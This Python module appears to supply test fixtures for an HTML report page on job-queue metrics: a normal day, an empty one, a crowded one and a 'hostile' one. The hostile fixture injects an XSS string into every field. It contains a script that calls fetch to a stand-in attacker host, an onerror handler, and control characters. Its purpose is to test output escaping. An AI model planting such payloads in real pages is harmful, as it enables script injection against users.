"""Findings for reports.

There is an ordinary day with a bad deploy, an empty one, one with more of everything, and a hostile one.
"""

from __future__ import annotations

import math
import random
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from functools import cache

from pyspark_pgrouse.report.findings import (
    AttemptCount,
    BurnRate,
    ChannelSkew,
    ErrorGroup,
    Findings,
    Percentiles,
    PeriodTotals,
    SloStatus,
    TopicChange,
    TopicCost,
    TopicTotals,
    WeekTotals,
    WorkerLoad,
)
from pyspark_pgrouse.report.html.page import page
from pyspark_pgrouse.report.slo import Slo
from pyspark_pgrouse.report.window import Window

UNTIL = datetime(2026, 11, 22, 10, tzinfo=UTC)
DAY = Window(UNTIL - timedelta(days=1), UNTIL, mark=UNTIL - timedelta(hours=5))
TOPICS = ("order.placed", "mail.send", "invoice.render", "search.index", "webhook.deliver", "image.resize", "sms.send")
HOSTILE = "</title><script>fetch('https://evil.example/')</script><img src=x onerror=alert(1)>\"'&\u202e\x1b[31m"


@cache
def page_of(findings: Callable[[], Findings]) -> str:
    """Return the page of `rich`, `hostile`, `crowded` or `nothing`, drawn once: its charts take a second."""
    return page(findings())


def rich(names: tuple[str, ...] = TOPICS, window: Window = DAY, hidden_topics: int = 5) -> Findings:
    """An ordinary day: waves by the hour, more failures and longer tails after the deploy."""
    dice = random.Random(7)
    n = len(window.starts())
    wave = [1.3 - math.cos(i / n * 2 * math.pi) + 0.12 * math.sin(i / 5) for i in range(n)]
    after = [window.mark is not None and at >= window.mark for at in window.starts()]
    made = {
        name: tuple(int(w * 9000 / (k + 1.5) * dice.uniform(0.9, 1.1)) for w in wave)
        for k, name in enumerate(names[:7])
    }
    others = tuple(int(w * 900 * dice.uniform(0.8, 1.2)) for w in wave)
    late = [(1 + 1.8 * a) * dice.uniform(0.85, 1.15) for a in after]
    latency = tuple(Percentiles(0.021 * f, 0.34 * w * f, 1.9 * w * f) for w, f in zip(wave, late, strict=True))
    topics = {
        name: TopicTotals(
            sum(made.get(name, (40,))),
            dead=int(sum(made.get(name, (40,))) * 0.0021 * k),
            wait=Percentiles(0.004 * (k + 1), 0.05 * (k + 1), 0.4 * (k + 1)),
            run=Percentiles(0.012 * (k + 1), 0.2 * (k + 1), 1.1 * (k + 1)),
            total=Percentiles(0.018 * (k + 1), 0.31 * (k + 1), 1.7 * (k + 1)),
            trend=tuple(w * f * (k + 1) for w, f in zip(wave, late, strict=True)),
        )
        for k, name in enumerate(names)
    }
    ended = sum(map(sum, made.values())) + sum(others)
    deaths = {
        "failed": tuple(int(w * (9 + 40 * a) * dice.uniform(0.6, 1.4)) for w, a in zip(wave, after, strict=True)),
        "rejected": tuple(int(w * 4 * dice.uniform(0.5, 1.5)) for w in wave),
        "lock_expired": tuple(3 if 100 < i < 112 else 0 for i in range(n)),
        "expired": (0,) * n,
    }
    dead = sum(map(sum, deaths.values()))
    busy = tuple(w * 38 * f for w, f in zip(wave, late, strict=True))
    whole = TopicTotals(ended, dead, 412, *[Percentiles(0.01 * k, 0.2 * k, 1.3 * k) for k in (1, 2, 3)])
    before_s, after_s = window.before_s, window.after_s
    change = TopicChange(
        PeriodTotals(ended * 3 // 4, dead // 3, Percentiles(0.021, 0.33, 1.7), 90_000, 31 * before_s, before_s),
        PeriodTotals(ended // 4, dead * 2 // 3, Percentiles(0.048, 0.9, 4.6), 51_000, 64 * after_s, after_s),
    )
    changes = {name: _change(k, window) for k, name in enumerate(names[:4])} if window.mark else {}
    costs = {
        name: TopicCost(total.ended, total.ended // (9 + k), 90_000.0 / (k + 1) ** 0.7, 9_000.0 * (k % 3 + 1) / (k + 1))
        for k, (name, total) in enumerate(topics.items())
    }
    weeks = tuple(window.until - timedelta(days=7) * n for n in range(4, 0, -1))
    return Findings(
        source="lake s3a://warehouse/queue",
        window=window,
        asked=window,
        made_at=UNTIL + timedelta(minutes=2),
        read=ended,
        whole=whole,
        topic_count=len(names) + hidden_topics,
        topics=topics,
        throughput=made,
        others=others,
        deaths=deaths,
        latency=latency,
        failing_count=9,
        failing={name: total for name, total in topics.items() if total.dead},
        change=change if window.mark else None,
        changes=changes,
        slower={name: change for name, change in changes.items() if change.slower > 1.1},
        failing_more={name: change for name, change in changes.items() if change.more_dead > 0},
        costing_more={name: change for name, change in changes.items() if change.after.busy > 1.1 * change.before.busy},
        cost=TopicCost(
            ended, 141_000, sum(c.run_s for c in costs.values()), sum(c.failed_run_s for c in costs.values())
        ),
        costs=costs,
        weeks=weeks,
        week_totals={"": _weeks(ended, 1)} | {name: _weeks(topics[name].ended, k + 2) for k, name in enumerate(names)},
        error_group_count=31,
        new_error_groups=2,
        error_groups=_error_groups(after, dice),
        attempts=tuple(AttemptCount(k, ended // 7**k, dead // 2**k) for k in range(1, 11)),
        skew_count=2,
        skews=(
            ChannelSkew(
                "mail.send",
                412,
                500_000,
                61.2,
                0.83,
                (("acme-corporation", 74_000), ("globex", 60_000), ("initech", 31_000)),
            ),
            ChannelSkew("webhook.deliver", 24, 90_000, 1.4, 0.12, (("eu", 5_200), ("us", 5_100), ("apac", 4_000))),
        ),
        busy=busy,
        workers=tuple(4 + (i > n // 3) * 4 for i in range(n)),
        worker_count=8,
        busiest_workers=tuple(WorkerLoad(f"worker-{k}.eu-west.internal", 14.2 - k, 31.0 - k) for k in range(8)),
        slo_statuses=(
            SloStatus(
                Slo.parse("99%:5s"),
                _burns(0.8, 0.4, 0.31),
                tuple(0.002 * f for f in late),
                (0.997, 0.9968, 0.9971, 0.9969),
            ),
            SloStatus(
                Slo.parse("order.placed=99.9%:2s"),
                _burns(6.2, 3.4, 1.7),
                tuple(0.004 * f for f in late),
                (0.9994, 0.9993, 0.9991, 0.983),
            ),
        ),
        tables=("throughput", "latency", "latency_by_topic", "failures", "fingerprints", "retries", "channels", "skew"),
    )


def _change(k: int, window: Window) -> TopicChange:
    before = PeriodTotals(
        900_000 // (k + 1),
        350 * (k + 1),
        Percentiles(0.019 * (k + 1), 0.3, 1.4 * (k + 1)),
        20_000 // (k + 1),
        9 / (k + 1) * window.before_s,
        window.before_s,
    )
    after = PeriodTotals(
        310_000 // (k + 1),
        (1900, 160, 250, 50)[k],
        Percentiles((0.055, 0.06, 0.058, 0.06)[k], 0.8, (6.1, 5.2, 4.1, 5.0)[k]),
        9_000 // (k + 1),
        (21, 7.5, 3.1, 2.2)[k] * window.after_s,
        window.after_s,
    )
    return TopicChange(before, after)


def _weeks(ended: int, k: int) -> tuple[WeekTotals, ...]:
    """Four weeks of a topic, which fails more and takes longer in the last one if it is one of the first."""
    worse = (1.0, 1.02, 0.97, 1 + 2.2 / k**2)
    return tuple(
        WeekTotals(
            int(ended * (6.4 + w / 9 + n * 0.2)),
            int(ended * 0.0003),
            int(ended * 0.0052 * k**0.5 * w),
            int(ended * 0.11 * w),
            ended * 0.31 * w,
            1.2 * k**0.5 * w,
        )
        for n, w in enumerate(worse)
    )


def _burns(*rates: float) -> tuple[BurnRate, ...]:
    return tuple(BurnRate(h, 10_000, 10_000 - int(r * 100), r) for h, r in zip((1.0, 6.0, 24.0), rates, strict=True))


def _error_groups(after: list[bool], dice: random.Random) -> tuple[ErrorGroup, ...]:
    trace = (
        "Traceback (most recent call last):\n"
        '  File "/srv/app/handlers/mail.py", line 41, in send\n    smtp.send(message)\n'
        "ConnectionResetError: [Errno 104] Connection reset by peer"
    )
    errors = (
        "TimeoutError: no answer from 10.2.0.17:443 within 5 s",
        trace,
        "KeyError: 'customer_id'",
        "invalid address: 'bob@'",
        None,
    )
    return tuple(
        ErrorGroup(
            topic=TOPICS[k],
            fingerprint=f"{dice.getrandbits(64):016x}",
            messages=3100 // (k + 1) ** 2,
            before=0 if k in (0, 3) else 700 // (k + 1),
            after=900,
            first_seen=UNTIL - timedelta(hours=4 - k / 2),
            last_seen=UNTIL - timedelta(minutes=k + 1),
            sample_id=81_204_117 + k,
            result="expired" if error is None else "failed",
            error=error,
            trend=tuple(int(a or k) * dice.randint(1, 9) for a in after),
        )
        for k, error in enumerate(errors)
    )


def nothing() -> Findings:
    """A window in which nothing ended."""
    return Findings(source="lake /var/lake", window=DAY, asked=DAY, made_at=UNTIL)


def crowded() -> Findings:
    """A thousand topics with long names, of which the page shows the busiest."""
    names = tuple(
        f"tenant-{i:04}.events.customer.subscription.{'renewed' if i % 2 else 'cancelled'}" for i in range(20)
    )
    return rich(names, hidden_topics=980)


def hostile() -> Findings:
    """Whatever a publisher can choose, chosen by an attacker."""
    made = rich((HOSTILE, *TOPICS[1:]))
    error_group = replace(
        made.error_groups[0], topic=HOSTILE, error=f"{HOSTILE}\n$policy ${{x}} {HOSTILE}", fingerprint=HOSTILE
    )
    skew = replace(made.skews[0], topic=HOSTILE, top=((HOSTILE, 3), ("", 1)))
    return replace(
        made,
        source=HOSTILE,
        error_groups=(error_group,),
        skews=(skew,),
        changes={HOSTILE: made.changes["mail.send"]},
        slower={HOSTILE: made.changes["mail.send"]},
        failing_more={HOSTILE: made.changes["mail.send"]},
        costing_more={HOSTILE: made.changes["mail.send"]},
        costs={HOSTILE: TopicCost(1, 1, 1.0, 1.0)},
        week_totals={HOSTILE: (None, None, *made.week_totals["mail.send"][2:])},
        busiest_workers=(WorkerLoad(HOSTILE, 1, 2), WorkerLoad(None, 1, 1)),
        slo_statuses=(replace(made.slo_statuses[0], slo=replace(made.slo_statuses[0].slo, topic=HOSTILE)),),
    )
